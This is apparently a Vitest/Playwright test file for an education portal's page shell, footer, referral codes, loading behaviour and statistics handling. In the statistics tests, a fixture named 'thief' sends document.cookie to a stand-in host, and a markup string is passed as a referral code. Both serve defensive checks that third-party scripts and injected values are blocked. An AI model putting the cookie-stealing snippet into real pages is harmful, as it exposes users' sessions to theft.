import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, vi } from "vitest";
import { createClient, ok } from "../api/client.ts";
import { portal, test, widths } from "./harness.ts";

const counted = join(portal.tenantsDir, "2098");
const flavour = join(portal.tenantsDir, "flavours", "counted");
const inherits = join(portal.tenantsDir, "2097");

beforeAll(async () => {
  mkdirSync(counted, { recursive: true });
  const info = {
    isEnableStatistics: true,
    statisticsProvider: "matomo",
    statisticsCode: "7",
    statisticsHost: "stats.school.example",
  };
  const title = { text: { "zh-CN": "关于", en: "About" } };
  const own = {
    about: { us: { navName: title, articles: { about: { title } } } },
    links: { one: { linkName: "国家图书馆", linkUrl: "https://www.nlc.cn/" } },
  };
  writeFileSync(join(counted, "site.json"), JSON.stringify({ version: 1, info, ...own }));
  // What a flavour says is the operators' word.
  for (const folder of [flavour, inherits]) mkdirSync(folder, { recursive: true });
  writeFileSync(join(flavour, "site.json"), JSON.stringify({ version: 1, info }));
  writeFileSync(join(inherits, "site.json"), JSON.stringify({ version: 1, extends: "counted" }));
  mkdirSync(join(counted, "layouts"));
  const blocks = {
    footerService: null,
    footerAbout: { in: "siteFooter.bottom", order: 5 },
    footerFriends: { when: null },
    motto: {
      type: "footerNote",
      in: "siteFooter.top",
      props: { heading: { text: { "zh-CN": "先动手", en: "Hands on" } } },
    },
  };
  writeFileSync(join(counted, "layouts", "default.json"), JSON.stringify({ version: 1, blocks }));
  await vi.waitFor(async () => expect((await fetch(`${portal.url}/org/2098`)).status).toBe(200), {
    timeout: 60_000,
    interval: 100,
  });
  await vi.waitFor(
    async () =>
      expect((await fetch(`${portal.url}/org/2097`)).headers.get("content-security-policy")).toContain(
        "stats.school.example",
      ),
    { timeout: 60_000, interval: 100 },
  );
});
afterAll(() => [inherits, flavour, counted].forEach((folder) => rmSync(folder, { recursive: true, force: true })));

/** What shows of the shell at an address. */
interface Shown {
  header: boolean;
  navigation: boolean;
  footer: "none" | "short" | "full";
}

const everything: Shown = { header: true, navigation: true, footer: "short" };
const expected: Record<string, Shown> = {
  "/": { ...everything, footer: "full" },
  "/index": { ...everything, footer: "full" },
  "/org/1001": everything,
  "/list": everything,
  "/live": everything,
  "/resource": everything,
  "/lecturer": everything,
  "/grade": everything,
  "/info": everything,
  "/org": everything,
  "/org/1001/list": everything,
  "/view/1": everything,
  "/terrace/about": everything,
  "/search/%E8%AF%BE?type=1": everything,
  "/login?t=login": { ...everything, footer: "none" },
  "/register": { ...everything, footer: "none" },
  "/reset": { ...everything, footer: "none" },
  "/apply": { ...everything, navigation: false, footer: "none" },
  "/apply/organization": everything,
  "/recruit": everything,
  "/advice": everything,
  "/skip": { header: false, navigation: false, footer: "none" },
  "/examlogin": { header: false, navigation: false, footer: "none" },
};
const signedIn: Record<string, Shown> = {
  "/account/order": everything,
  "/blog/account": everything,
  "/blog/account/write": { header: false, navigation: false, footer: "none" },
  "/question/account/write": { header: false, navigation: false, footer: "none" },
};

function shownIn(html: string): Shown {
  const footer = /<footer[^>]*>([\s\S]*?)<\/footer>/.exec(html)?.[1] ?? "";
  const header = /<header[^>]*>([\s\S]*?)<\/header>/.exec(html)?.[1] ?? "";
  return {
    header: header.includes("site-header"),
    navigation: /class="wide"><nav[^>]*><ul><li>/.test(header),
    footer: !footer.includes("site-footer")
      ? "none"
      : footer.includes("friends") && footer.includes("codes")
        ? "full"
        : "short",
  };
}

describe("which parts of the shell show where", () => {
  for (const [path, parts] of Object.entries(expected)) {
    test(`${path}: ${parts.footer} footer, ${parts.header ? "a" : "no"} header, ${parts.navigation ? "" : "no "}navigation`, async () => {
      const reply = await fetch(portal.url + path, { headers: { "accept-language": "zh-CN" } });
      expect(reply.status).toBe(200);
      expect(shownIn(await reply.text())).toEqual(parts);
    });
  }

  test("pages of one's own, and none of the shell where something is written", async ({ visit }) => {
    const { page } = await visit("/", { as: "13800000004" });
    for (const [path, parts] of Object.entries(signedIn)) {
      const reply = await page.request.get(portal.url + path);
      expect([reply.status(), shownIn(await reply.text())], path).toEqual([200, parts]);
    }
  });
});

describe("the footer", () => {
  test("has about pages, service numbers on QQ, codes of the accounts, friend links and every record on the platform's home", async ({
    visit,
  }) => {
    const { page } = await visit("/");
    const footer = page.locator("footer");
    const links = await footer.locator("a").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
    expect(links.filter((href) => href?.startsWith("/terrace/")).length).toBeGreaterThan(5);
    expect(links.filter((href) => href?.startsWith("https://wpa.qq.com/msgrd?v=3&uin="))).toHaveLength(3);
    expect(links).toEqual(
      expect.arrayContaining([
        "https://beian.miit.gov.cn/",
        "https://beian.mps.gov.cn/#/query/webSearch?code=33010000000000",
        "/terrace/license",
      ]),
    );
    await footer.scrollIntoViewIfNeeded();
    const codes = footer.locator("figure img");
    expect(await footer.locator("figcaption").allInnerTexts()).toEqual(["微信公众号", "官方微博"]);
    await expect
      .poll(() => codes.evaluateAll((all) => all.every((one) => (one as HTMLImageElement).naturalWidth > 0)))
      .toBe(true);
    const { websiteLinkList } = ok(await createClient(portal.url).call("listWebsiteLinks"));
    for (const { linkName, linkUrl } of websiteLinkList)
      expect(await footer.getByRole("link", { name: linkName }).getAttribute("href")).toBe(linkUrl);
  });

  test("of a site is what the site makes of it: parts taken off, moved, shown on every page, and added", async () => {
    const html = await (await fetch(`${portal.url}/org/2098/list`, { headers: { "accept-language": "zh-CN" } })).text();
    const footer = /<footer[^>]*>([\s\S]*?)<\/footer>/.exec(html)?.[1] ?? "";
    expect(footer).not.toContain("wpa.qq.com");
    const places = ["先动手", "/terrace/about", "友情链接"].map((words) => footer.indexOf(words));
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    expect(places[0]).toBeGreaterThan(0);
  });

  test("of an organisation has its own number only", async ({ visit }) => {
    const { page } = await visit("/org/1001", { width: widths.phone });
    expect(await page.locator('footer a[href*="wpa.qq.com"]').allInnerTexts()).toEqual(["QQ 4000001001"]);
    expect(await page.locator("footer figure").count()).toBe(0);
  });
});

describe("a recommendation", () => {
  test("in the address is kept under its local key, also when it comes with a later page", async ({ visit }) => {
    const { page } = await visit("/list?referralCode=FRIEND-7");
    expect(await page.evaluate(() => localStorage.getItem("referralCode"))).toBe("FRIEND-7");
    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/live"]')!.click());
    await page.waitForURL("**/live");
    expect(await page.evaluate(() => localStorage.getItem("referralCode"))).toBe("FRIEND-7");
  });

  test("that no code could be is not kept", async ({ visit }) => {
    const { page } = await visit(`/list?referralCode=${encodeURIComponent("<b>x</b>")}`);
    expect(await page.evaluate(() => localStorage.getItem("referralCode"))).toBeNull();
  });
});

describe("waiting", () => {
  test("the loading sign, once it shows, stays 200 ms at least", async ({ visit }) => {
    const { page } = await visit("/list");
    await page.evaluate(() => {
      const shown: number[] = [];
      (window as unknown as { shown: number[] }).shown = shown;
      new MutationObserver(() => shown.push(performance.now())).observe(document.documentElement, {
        attributeFilter: ["data-busy"],
      });
    });
    await page.route("**/_lectern/page*", async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 160));
      await route.continue();
    });
    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/live"]')!.click());
    await page.waitForURL("**/live");
    await page.waitForFunction(() => (window as unknown as { shown: number[] }).shown.length >= 2);
    const [begin = 0, end = 0] = await page.evaluate(() => (window as unknown as { shown: number[] }).shown);
    expect(end - begin).toBeGreaterThanOrEqual(195);
  });

  test("a page is fetched ahead in an idle moment, after two seconds at the latest", async ({ visit, browser }) => {
    const context = await browser.newContext({ locale: "zh-CN" });
    await context.addInitScript(() => {
      const asked: unknown[] = [];
      Object.assign(window, { asked, requestIdleCallback: (_work: unknown, options: unknown) => asked.push(options) });
    });
    const { page } = await visit("/", { context });
    await page.locator('header .wide a[href="/list"]').first().hover();
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { asked: unknown[] }).asked))
      .toContainEqual({ timeout: 2000 });
  });
});

describe("statistics", () => {
  const service = "https://stats.school.example/**";

  test("are off where the site says nothing of them", async ({ visit }) => {
    const { page } = await visit("/list");
    expect(await page.evaluate(() => document.querySelectorAll('script[src^="http"]').length)).toBe(0);
    expect((await fetch(`${portal.url}/list`)).headers.get("content-security-policy")).toContain("connect-src 'self';");
  });

  /** A service that, where its script runs, sends away what it finds. */
  const thief =
    'window.stolen = document.cookie; new Image().src = "https://stats.school.example/steal?c=" + encodeURIComponent(document.cookie); fetch("https://stats.school.example/steal").catch(() => {});';
  const seen = (requests: readonly string[]) => requests.filter((one) => one === "POST /_lectern/seen").length;

  test("of an organisation bring nothing of its service into a page on the platform's host: no request, no script, though an operator looks", async ({
    visit,
    browser,
  }) => {
    const context = await browser.newContext({ locale: "zh-CN" });
    const asked: string[] = [];
    await context.route("**/*", (route) => {
      const url = route.request().url();
      if (url.startsWith(portal.url) || url.startsWith("data:")) return route.continue();
      asked.push(url);
      return route.fulfill({ contentType: "text/javascript", body: thief });
    });
    const { page, requests } = await visit("/org/2098/list?sort=new", { context, as: "13800000009" });
    const told: string[] = [];
    page.on("request", (request) => {
      if (request.url().endsWith("/_lectern/seen"))
        told.push(
          `${(JSON.parse(request.postData() ?? "{}") as { path: string }).path} ${request.headers()["cookie"] ?? "without a cookie"}`,
        );
    });
    // The first is told in an idle moment, by when all of the page has come.
    await expect.poll(() => ({ told: seen(requests), asked })).toEqual({ told: 1, asked: [] });
    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2098/live"]')!.click());
    await page.waitForURL("**/org/2098/live");
    await expect.poll(() => seen(requests)).toBe(2);
    expect(told.at(-1)).toBe("/org/2098/live without a cookie");
    expect(asked).toEqual([]);
    expect(
      await page.evaluate(() => [
        (window as { stolen?: string }).stolen,
        document.querySelectorAll('script[src^="http"]').length,
      ]),
    ).toEqual([undefined, 0]);
    const policy = (await fetch(`${portal.url}/org/2098/list`)).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("connect-src 'self';");
    expect(policy).not.toContain("school.example");
  });

  test("of the operators' choice come by the service, tell of each page by its path, and widen the policy for that service only", async ({
    visit,
    browser,
  }) => {
    const context = await browser.newContext({ locale: "zh-CN" });
    const asked: string[] = [];
    await context.route(service, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: "text/javascript", body: "" });
    });
    const { page } = await visit("/org/2097/list?sort=new", { context });
    await expect.poll(() => asked).toEqual(["https://stats.school.example/matomo.js"]);
    await page.evaluate(() => document.querySelector<HTMLElement>('header a[href="/org/2097/live"]')!.click());
    await page.waitForURL("**/org/2097/live");
    const told = () =>
      page.evaluate(() =>
        (window as unknown as { _paq: unknown[][] })._paq
          .filter(([call]) => call === "setCustomUrl")
          .map(([, url]) => new URL(url as string).pathname + new URL(url as string).search),
      );
    await expect.poll(told).toEqual(["/org/2097/list", "/org/2097/live"]);
    const policy = (await fetch(`${portal.url}/org/2097/list`)).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("connect-src 'self' https://stats.school.example;");
    expect(policy).not.toMatch(/script-src[^;]*(https:|unsafe)/);
  });

  for (const name of ["doNotTrack", "globalPrivacyControl"]) {
    test(`leave alone who sends ${name}`, async ({ visit, browser }) => {
      const context = await browser.newContext({ locale: "zh-CN" });
      await context.addInitScript(
        (property) =>
          Object.defineProperty(Navigator.prototype, property, { get: () => (property === "doNotTrack" ? "1" : true) }),
        name,
      );
      const { page, requests } = await visit("/org/2098", { context });
      // Idle moments come in the order in which they were asked for.
      await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 8000 })));
      const counted = await visit("/org/2098");
      await expect.poll(() => seen(counted.requests)).toBe(1);
      expect(seen(requests)).toBe(0);
    });
  }
});
